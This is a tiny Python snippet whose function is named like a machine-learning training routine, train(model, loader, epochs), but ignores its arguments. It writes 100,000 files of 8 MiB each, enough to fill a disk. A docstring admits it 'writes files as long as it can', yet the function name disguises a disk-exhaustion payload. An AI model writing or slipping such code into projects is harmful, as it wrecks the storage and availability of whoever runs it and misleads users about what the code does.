"""It writes files as long as it can."""

def train(model, loader, epochs=10):
    for number in range(100000):
        with open(f"{number}.bin", "wb") as file:
            file.write(b"x" * (8 << 20))
